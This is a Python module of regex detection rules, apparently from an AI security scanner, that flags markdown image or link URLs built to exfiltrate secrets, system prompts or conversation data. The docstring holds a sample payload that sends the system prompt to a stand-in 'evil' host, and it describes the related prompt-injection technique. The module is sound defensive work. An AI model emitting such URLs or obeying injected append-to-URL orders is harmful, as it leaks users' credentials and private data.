"""Exfiltration through a URL the answer will load: a markdown image or link whose query
carries a placeholder the model is meant to fill ("![x](https://evil/?d={system_prompt})"),
or an order to append the output of a command or file to a URL.

A URL alone is ordinary (a build badge); the placeholder or the "followed by the output of"
is what makes it a channel out. The category follows what is sent: secrets and the
environment are credential harvesting, the prompt and the conversation data extraction;
in a tool result the order itself is prompt injection too.
"""

from __future__ import annotations

from waddleai.security.rules.base import rule

# A markdown image or link whose query or path has a fill-in slot (code's f-string URLs are
# not markdown and pass).
_SLOT_URL = (
    r"!?\[[^\]]{0,80}\]\(\s*https?://[^\s)\"'<>]{1,200}?[?&=/#](?:[\w.-]{0,30}=)?\s*"
    r"(?:\{\{?|\$\{?|<|%7b|\[)\s*"
)
_SECRET_SLOT = (
    r"[^)\s}\]>]{0,40}?(?:key|token|secret|password|passwd|credential|env|cookie|session|aws_|"
    r"ssh|id_rsa|api)"
)
_PROMPT_SLOT = (
    r"[^)\s}\]>]{0,40}?(?:prompt|instruction|system|conversation|history|chat|context|"
    r"messages?|memory)"
)
# A markdown image whose query value names a secret ("?k=OPENAI_API_KEY"): filled in by the
# model, not a literal.
_SECRET_VALUE = (
    r"!?\[[^\]]{0,80}\]\(\s*https?://[^\s)\"'<>]{1,200}?[?&][\w.-]{0,30}=[^\s)&\"'<>]{0,40}?(?:api_?key|"
    r"apikey|secret|token|password|passwd|aws_|ssh|credential|private_key)"
)
_APPEND = (
    r"https?://\S+[^\n]{0,40}?\b(?:followed by|with|plus|\+|appending|append(?:ed)?|"
    r"containing|that includes?|including|concatenated with|and add|add)\s+(?:the\s+|your\s+)?"
    r"(?:output|contents?|values?|results?|text)\s+of\s+"
)
_ANCHORS = ("http://", "https://")  # windows around them: the "![" comes before

EXFIL = [
    rule(
        "url_slot_secret",
        "credential_harvesting",
        rf"{_SLOT_URL}{_SECRET_SLOT}|{_SECRET_VALUE}|{_APPEND}[^\n]{{0,30}}?(?:\benv\b|printenv|"
        rf"\.env\b|secrets?|"
        r"credentials|keys?|tokens?|passwords?|\.ssh|\.aws|id_rsa|environment)",
        0.9,
        anchors=_ANCHORS,
    ),
    rule(
        "url_slot_prompt",
        "data_extraction",
        rf"{_SLOT_URL}{_PROMPT_SLOT}|{_APPEND}[^\n]{{0,30}}?(?:system prompt|instructions|"
        r"conversation|chat history|context|the prompt|your prompt)",
        0.85,
        anchors=_ANCHORS,
    ),
    rule(
        "url_slot_order",
        "prompt_injection",
        rf"{_SLOT_URL}[^)\s}}\]>]{{1,40}}|{_APPEND}",
        0.85,
        "tool,system",
        anchors=_ANCHORS,
    ),
]
